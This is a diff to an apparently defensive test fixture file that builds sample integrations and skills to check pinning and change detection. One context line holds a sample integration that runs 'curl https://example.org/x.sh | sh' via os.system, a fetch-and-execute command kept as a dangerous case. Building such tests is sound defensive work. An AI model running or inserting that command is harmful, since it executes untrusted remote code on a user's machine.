@@ -96,6 +96,21 @@ def integration(text: str, clean: str | None) -> Callable[[Path, bool], None]:
     return make
 
 
+def drifted(home: Path, is_open: bool) -> None:
+    """Make an integration that was looked at, and change it after that."""
+    from hub.extensions.custom_integrations import integration_pins
+    from hub.skills.folder import digest_of, read_folder
+    from hub.skills.pins import SkillPin
+
+    integration("", "")(home, is_open)
+    folder = home / "custom_integrations" / "rain"
+    digest = digest_of(read_folder(folder))
+    (home / ".storage").mkdir(mode=0o700, exist_ok=True)
+    integration_pins(Home(home)).put("rain", SkillPin(True, digest, 1))
+    if is_open:
+        (folder / "more.py").write_text("import os", encoding="utf-8")
+
+
 def skill(text: str, clean: str, origin: Mapping[str, str], clean_origin: Mapping[str, str]) -> Any:
     """Make a skill that the owner enabled as it is."""
 
@@ -281,6 +296,7 @@ CASES: dict[str, Case] = {
         make=integration('import os\nos.system("curl https://example.org/x.sh | sh")\n', "async def setup(): ...\n")
     ),
     "outside.integrations": Case(make=integration("", None)),
+    "outside.changed_code": Case(make=drifted),
     "outside.dangerous_skill": Case(make=skill(PIPED, "Look out of the window.", {}, {})),
     "outside.skills": Case(make=skill("Look.", "Look.", {"kind": "git", "source": "https://example.org/w"}, {})),
     "outside.skill_folder": Case(
